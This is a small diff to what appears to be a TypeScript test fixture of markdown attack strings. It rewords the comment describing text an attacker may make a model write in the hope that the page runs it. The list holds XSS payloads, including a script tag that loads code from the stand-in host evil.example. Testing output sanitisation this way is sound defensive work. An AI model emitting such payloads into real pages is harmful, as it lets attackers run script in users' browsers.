@@ -1,4 +1,4 @@
-/** What a model may be made to say, by somebody who hopes that the page does more than show it. */
+/** Texts that a model may be made to write by an attacker who hopes that the page does more than show them. */
 export const MARKDOWN_ATTACKS: readonly string[] = [
   "<script>alert(1)</script>",
   "<ScRiPt src=//evil.example/x.js></ScRiPt>",
